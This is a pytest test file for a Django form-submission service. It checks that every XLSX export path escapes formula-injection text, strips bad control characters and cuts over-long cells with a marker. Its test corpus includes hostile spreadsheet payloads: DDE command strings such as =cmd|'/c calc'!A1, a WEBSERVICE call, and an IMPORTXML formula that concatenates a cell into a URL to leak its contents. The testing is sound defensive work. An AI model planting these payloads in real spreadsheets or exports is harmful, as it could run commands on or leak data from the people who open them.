"""Hostile text in XLSX exports, through every real download: nothing becomes a formula.

Each corpus answer is delivered through the real endpoint, then the workbook
is downloaded through the admin's XLSX link, its "Export selected to XLSX"
action, a form page's XLSX button, the read API's ``?format=xlsx`` and
``export_submissions --format xlsx``. Every file must be a zip whose every XML
part parses, must open in openpyxl, must hold no formula cell, and must
read back each answer as documented (docs/hostile-input.md, "XLSX exports").
"""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from submissions.exports import FIXED_COLUMNS, XLSX_MAX_CELL_CHARS
from submissions.models import FormAnswer, FormSubmission
from tests.api.conftest import token_client
from tests.spreadsheets import downloaded, workbook

pytestmark = pytest.mark.django_db

EXPORT_XLSX = reverse("admin:submissions_formsubmission_export_xlsx")
SUBMISSIONS = reverse("admin:submissions_formsubmission_changelist")

#: Answers that a spreadsheet could take for a formula, a link or a number,
#: and the text each must read back as: a leading ``'`` where it starts like
#: a formula (the CSV's escaping), else exactly as sent.
FORMULAS: list[tuple[str, str]] = [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("=1+1", "'=1+1"),
    ("=", "'="),
    ("+1", "+1"),  # a plain number stays as it is, as text
    ("-1", "-1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width =
    ("\uff0b1+1", "'\uff0b1+1"),
    ("\uff0d1+1", "'\uff0d1+1"),
    ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
    (" =1+1", "' =1+1"),
    ("   @SUM(A1)", "'   @SUM(A1)"),
    ("\n=1+1", "'\n=1+1"),
    ("\r\n=1+1", "'\n=1+1"),  # a cell's line break is LF
    ("\t=1+1", "'\t=1+1"),
    ("\u3000=1+1", "'\u3000=1+1"),  # ideographic space
    ("\u00a0=1+1", "'\u00a0=1+1"),  # no-break space
    ("{=1+1}", "{=1+1}"),  # an array formula only when typed: text here
    ("{=SUM(A1:A2)}", "{=SUM(A1:A2)}"),
    ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"),
    ("@cmd|'/c calc'!A1", "'@cmd|'/c calc'!A1"),
    ("+cmd|'/c calc'!A1", "'+cmd|'/c calc'!A1"),
    ("-cmd|'/c calc'!A1", "'-cmd|'/c calc'!A1"),
    ('=IMPORTXML(CONCAT("http://x/?",A1),"//a")', None),
    ('=WEBSERVICE("http://x")', None),
    ("'=1+1", "'=1+1"),  # already escaped by the sender: kept
    ("http://example.com/", "http://example.com/"),  # not made a link
    ("https://evil.example/?q=<script>", "https://evil.example/?q=<script>"),
    ("mailto:ops@example.com", "mailto:ops@example.com"),
    ("external:Sheet1!A1", "external:Sheet1!A1"),
    ("01234", "01234"),  # not made a number
    ("1e5", "1e5"),
    ("1,234.5", "1,234.5"),
    ("TRUE", "TRUE"),
    ("#DIV/0!", "#DIV/0!"),
    ("<f>1+1</f>", "<f>1+1</f>"),  # XML in text is escaped, not markup
    ("&amp; ]]> <![CDATA[x]]>", "&amp; ]]> <![CDATA[x]]>"),
]
FORMULAS = [
    (sent, shown if shown is not None else "'" + sent) for sent, shown in FORMULAS
]

REPLACEMENT = "\ufffd"
#: Every C0 control, DEL, the non-characters U+FFFE/U+FFFF, characters outside
#: the BMP, and the OOXML escape spelled out in text.
CONTROLS: list[tuple[str, str]] = [
    *[
        (f"a{chr(c)}b", f"a{chr(c) if c in (9, 10) else REPLACEMENT}b")
        for c in range(1, 0x20)  # NUL: refused at intake (400 invalid_json)
        if c != 13
    ],
    ("a\rb", "a\nb"),
    ("a\r\nb", "a\nb"),
    ("a\x7fb", "a\x7fb"),
    ("a\x85b\u2028c", "a\x85b\u2028c"),  # legal in XML: kept
    ("a\ufffeb\uffffc", f"a{REPLACEMENT}b{REPLACEMENT}c"),
    ("😀 𝄞 \U0010fffd", "😀 𝄞 \U0010fffd"),
    ("_x0000_ and _x005F_", "_x0000_ and _x005F_"),  # text, not an escape
]

#: Question keys (column headings) with the same trouble.
KEYS: list[tuple[str, str]] = [
    ("=1+1", "'=1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("k\x01", f"k{REPLACEMENT}"),
    ("k\x02", f"k{REPLACEMENT} (question)"),  # the same heading once made safe
    ("k\x1f\ufffe", f"k{REPLACEMENT}{REPLACEMENT}"),
    ("line\r\nbreak", "line\nbreak"),
    ("submission_id", "submission_id (question)"),
]

LONG = 1_000_000


def corpus() -> dict[str, tuple[Any, str]]:
    """Question key -> (answer sent, text it must read back as)."""
    answers = {f"f{i:02d}": pair for i, pair in enumerate(FORMULAS)}
    answers |= {f"c{i:02d}": pair for i, pair in enumerate(CONTROLS)}
    return answers


def ooxml_decoded(text: str) -> str:
    """Cell text as Excel shows it: openpyxl leaves inline ``_xHHHH_`` escapes as written."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def utf16_units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def assert_sound(data: bytes) -> list[list[Any]]:
    """Every part parses, no cell is a formula; the first sheet's cells, decoded."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(archive.read(name))  # noqa: S314 (our own file)
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    book = workbook(data)
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
        rows += [
            [ooxml_decoded(v) if isinstance(v, str) else v for v in row]
            for row in sheet.iter_rows(values_only=True)
        ]
    return rows


@pytest.fixture
def delivered(deliver, bot) -> Callable[..., FormSubmission]:
    """Deliver ``answers`` to ``save-form`` through the real endpoint; the submission."""
    count = iter(range(1_000_000))

    def send(answers: dict[str, Any]) -> FormSubmission:
        response = deliver(
            {
                "handler": "save-form",
                "id": f"hostile-xlsx-{next(count)}",
                "conversationId": "c-1",
                "userId": "u-1",
                "formValues": answers,
            }
        )
        assert response.status_code == 200, response.content
        return FormSubmission.objects.get(event_id=response["X-Webhook-Event-Id"])

    return send


@dataclass
class Staff:
    """A superuser, logged in to the admin and holding an API token."""

    client: Client
    user: User
    tmp_path: Path


@pytest.fixture
def staff(admin_client, admin_user, tmp_path) -> Staff:
    return Staff(client=admin_client, user=admin_user, tmp_path=tmp_path)


def admin_link(staff: Staff, submission: FormSubmission) -> bytes:
    return downloaded(staff.client.get(EXPORT_XLSX))


def admin_action(staff: Staff, submission: FormSubmission) -> bytes:
    response = staff.client.post(
        SUBMISSIONS,
        {"action": "export_as_xlsx", "_selected_action": [submission.pk]},
    )
    assert response.status_code == 200
    return downloaded(response)


def form_page(staff: Staff, submission: FormSubmission) -> bytes:
    page = staff.client.get(
        reverse("admin:form-table", args=[submission.bot_id, submission.handler_name])
    )
    assert page.status_code == 200
    href = re.search(r'id="form-export-xlsx" href="([^"]+)"', page.content.decode())
    assert href, "no XLSX button on the form page"
    return downloaded(staff.client.get(html.unescape(href.group(1))))


def api(staff: Staff, submission: FormSubmission) -> bytes:
    response = token_client(staff.user).get("/api/submissions/?format=xlsx")
    assert response.status_code == 200, response.content
    return downloaded(response)


def command(staff: Staff, submission: FormSubmission) -> bytes:
    target = staff.tmp_path / "export.xlsx"
    call_command(
        "export_submissions",
        "--format",
        "xlsx",
        "--output",
        str(target),
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    return target.read_bytes()


DOWNLOADS = [admin_link, admin_action, form_page, api, command]


@pytest.mark.parametrize("download", DOWNLOADS, ids=lambda f: f.__name__)
def test_no_answer_becomes_a_formula_and_every_one_reads_back(
    download, delivered, staff
):
    sent = corpus()
    submission = delivered({key: value for key, (value, _) in sent.items()})

    header, row = assert_sound(download(staff, submission))

    answers = dict(
        zip(header[len(FIXED_COLUMNS) :], row[len(FIXED_COLUMNS) :], strict=True)
    )
    assert answers == {key: shown for key, (_, shown) in sent.items()}
    # Nothing lost: the stored answers are the ones sent.
    stored = dict(FormAnswer.objects.values_list("key", "value"))
    assert stored == {key: value for key, (value, _) in sent.items()}


@pytest.mark.parametrize("download", DOWNLOADS, ids=lambda f: f.__name__)
def test_hostile_question_keys_make_safe_unique_headings(download, delivered, staff):
    submission = delivered({key: f"answer {i}" for i, (key, _) in enumerate(KEYS)})

    header, row = assert_sound(download(staff, submission))

    assert header[len(FIXED_COLUMNS) :] == [shown for _, shown in KEYS]
    assert len(set(header)) == len(header)
    assert row[len(FIXED_COLUMNS) :] == [f"answer {i}" for i in range(len(KEYS))]


@pytest.mark.parametrize("download", DOWNLOADS, ids=lambda f: f.__name__)
def test_an_answer_over_excels_cell_limit_is_cut_with_a_marker(
    download, delivered, staff, settings
):
    settings.WEBHOOKS = {**settings.WEBHOOKS, "MAX_BODY_BYTES": 8 * 1024 * 1024}
    long_text = "=" + "x" * (LONG - 1)  # a formula start too
    astral = "😀" * 20_000  # 40,000 UTF-16 units in 20,000 characters
    submission = delivered({"long": long_text, "astral": astral, "short": "fine"})

    header, row = assert_sound(download(staff, submission))

    cells = dict(zip(header, row, strict=True))
    long_cell, astral_cell = cells["long"], cells["astral"]
    assert long_cell.endswith(
        " [… cut to fit an Excel cell: 1,000,001 characters in all]"
    )
    assert long_cell.startswith("'=" + "x" * 30_000)
    assert utf16_units(long_cell) == XLSX_MAX_CELL_CHARS
    assert astral_cell.endswith(
        " [… cut to fit an Excel cell: 20,000 characters in all]"
    )
    assert astral_cell.startswith("😀" * 16_000)
    assert utf16_units(astral_cell) <= XLSX_MAX_CELL_CHARS  # no half pair kept
    assert cells["short"] == "fine"
    # The database keeps the answer whole; only the spreadsheet cell is cut.
    assert FormAnswer.objects.get(key="long").value == long_text
